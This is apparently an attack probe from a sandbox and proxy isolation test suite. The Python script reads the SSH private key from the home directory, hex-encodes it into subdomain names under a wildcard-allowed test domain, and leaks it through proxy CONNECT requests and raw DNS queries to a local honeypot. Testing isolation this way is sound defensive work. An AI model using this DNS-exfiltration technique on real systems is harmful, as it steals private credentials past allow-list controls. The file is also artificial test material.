# family: injection
# tries: through stockade-proxy, CONNECTs to subdomains of a wildcard allow (*.exfil.test) whose names spell the SSH key and a PWNED marker in hex: the proxy asks the policy's resolver for each, and the resolver sees the names
# source: https://attack.mitre.org/techniques/T1048/003/
# exfil: yes
# by-design: allowed-host-exit
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Not stopped, by design: a wildcard allow lets the job name any host
# under the domain, and the proxy must ask a resolver for the name before
# it can decide the address; whoever answers for the domain reads the
# names. A wildcard allow is a DNS exit (docs/threat-model.md). The
# eval's resolver is the honeypot's UDP socket; what the names spell is
# recorded as "dns". No CONNECT succeeds: the resolver says NXDOMAIN.
import os
import socket
import struct
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, udp = sys.argv[1], sys.argv[2], int(sys.argv[5])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def names():
    """One name per line of the loot (at most 90 bytes, three labels of
    hex), so that no secret is cut between two queries."""
    for line in loot.split(b"\n"):
        for i in range(0, len(line), 90):
            h = line[i:i + 90].hex()
            labels = [h[j:j + 60] for j in range(0, len(h), 60)]
            yield ".".join(labels) + ".exfil.test"


def talk(data, host=pxhost, port=int(pxport or 0), wait=3.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


def query(name, wait=1.0):
    """An A query for NAME straight to the honeypot's UDP port."""
    q = struct.pack(">HHHHHH", 0x7777, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    q += b"\0" + struct.pack(">HH", 1, 1)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(wait)
            s.sendto(q, ("127.0.0.1", udp))
            return s.recv(512)[:4]
    except OSError as e:
        return repr(e).encode()


for n in names():
    if not n.startswith("."):
        if proxy:
            r = talk(b"CONNECT " + n.encode() + b":443 HTTP/1.1\r\nHost: " +
                     n.encode() + b":443\r\n\r\n")
        else:
            # No proxy here (a column without the allow-list): the same
            # queries straight to the honeypot, which only isolation stops.
            r = query(n)
        print(n[:8], r[9:12] if proxy else r[:24])
